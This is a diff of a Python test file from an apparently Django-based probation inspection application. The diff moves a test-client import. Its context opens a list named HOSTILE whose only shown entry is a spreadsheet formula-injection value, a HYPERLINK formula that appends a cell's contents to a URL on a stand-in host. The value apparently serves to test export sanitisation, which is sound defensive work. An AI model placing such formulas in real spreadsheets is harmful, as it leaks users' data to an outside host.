@@ -10,10 +10,9 @@ from typing import Any
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from helpers import client_for
 from probation_inspection.web.casework.models import SampledCase
 from probation_inspection.web.inspections.models import Inspection
-
-from .conftest import client_for
 
 HOSTILE = [
     '=HYPERLINK("http://x/?"&A2,"Open")',
